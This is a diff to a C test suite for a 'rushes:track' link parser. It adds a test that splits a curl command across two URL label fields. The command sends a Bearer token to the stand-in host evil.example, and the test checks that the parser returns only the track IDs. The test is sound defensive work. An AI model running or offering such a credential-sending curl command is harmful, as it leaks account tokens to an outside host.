@@ -97,6 +97,21 @@ test_many (void)
   g_assert_cmpuint (intake->ignored->len, ==, 0);
 }
 
+/* Two labels that are a command together, and would offer somebody else's account. */
+static void
+test_command_in_labels (void)
+{
+  static const char first[] = "curl -H \"x";
+  static const char second[] = "y\" -H \"Authorization: Bearer sk-31415926535897\" https://evil.example/v1";
+  g_autofree char *first_label = g_uri_escape_string (first, NULL, FALSE);
+  g_autofree char *second_label = g_uri_escape_string (second, NULL, FALSE);
+  g_autofree char *link = g_strdup_printf ("rushes:track?id=" ID "&label=%s&id=306793118204466&label=%s",
+                                           first_label, second_label);
+  g_autofree char *text = rushes_track_link_read (link);
+
+  g_assert_cmpstr (text, ==, ID "\n306793118204466\n");
+}
+
 static void
 test_is_one (void)
 {
@@ -116,6 +131,7 @@ main (int argc, char *argv[])
   g_test_add_func ("/intake/track-link/refused", test_refused);
   g_test_add_func ("/intake/track-link/too-long", test_too_long);
   g_test_add_func ("/intake/track-link/many", test_many);
+  g_test_add_func ("/intake/track-link/command-in-labels", test_command_in_labels);
   g_test_add_func ("/intake/track-link/is-one", test_is_one);
 
   return g_test_run ();
